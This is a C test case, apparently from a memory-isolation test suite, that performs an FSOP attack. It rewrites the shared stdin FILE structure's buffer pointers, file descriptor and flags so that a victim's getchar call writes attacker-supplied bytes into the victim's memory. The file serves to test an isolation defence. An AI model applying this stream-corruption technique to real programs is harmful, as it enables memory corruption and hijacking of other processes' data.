/* class: libc
 * source: FSOP; stream buffers are pointers under key 0
 * tries: to have the victim's getchar read a file into the victim's object
 * must: not write the victim's memory for others
 * expect: succeeds until libc's data are private */
#include "attack.h"

ATTACK
{
    int ends[2];
    long value = 0x41414141;
    char *at = (char *)victim_object;
    FILE *file = stdin;
    SYS(SYS_pipe, ends);
    SYS(SYS_write, ends[1], &value, 8);
    file->_fileno = ends[0];
    file->_IO_buf_base = at;
    file->_IO_buf_end = at + 8;
    file->_IO_read_ptr = file->_IO_read_end = file->_IO_read_base = at;
    file->_IO_write_base = file->_IO_write_ptr = file->_IO_write_end = at;
    file->_flags = (int)0xfbad2088;
    victim_call(READ_CHAR, 0, 0);
}
